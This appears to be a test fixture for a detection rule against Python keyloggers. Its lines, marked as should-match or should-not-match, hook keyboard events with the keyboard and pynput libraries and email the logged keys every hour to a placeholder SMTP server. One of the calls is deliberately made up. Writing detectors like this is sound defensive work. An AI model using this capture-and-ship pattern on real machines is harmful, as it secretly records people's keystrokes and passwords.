import smtplib
import threading

import keyboard
from pynput.keyboard import Listener

log = []


def on_key(event):
    log.append(event.name)


def send_mail():
    with smtplib.SMTP("smtp.example.com", 587) as server:
        server.sendmail("a@example.com", "a@example.com", "".join(log))
    threading.Timer(3600, send_mail).start()


# ruleid: python-keylogger-capture-and-ship
keyboard.on_release(callback=on_key)
# ruleid: python-keylogger-capture-and-ship
keyboard.start_recording_everything_invented()

# ruleid: python-keylogger-capture-and-ship
with Listener(on_press=on_key) as listener:
    listener.join()


def typing_help():
    # a word that is not a module call
    # ok: python-keylogger-capture-and-ship
    return "keyboard.on_press registers a callback"
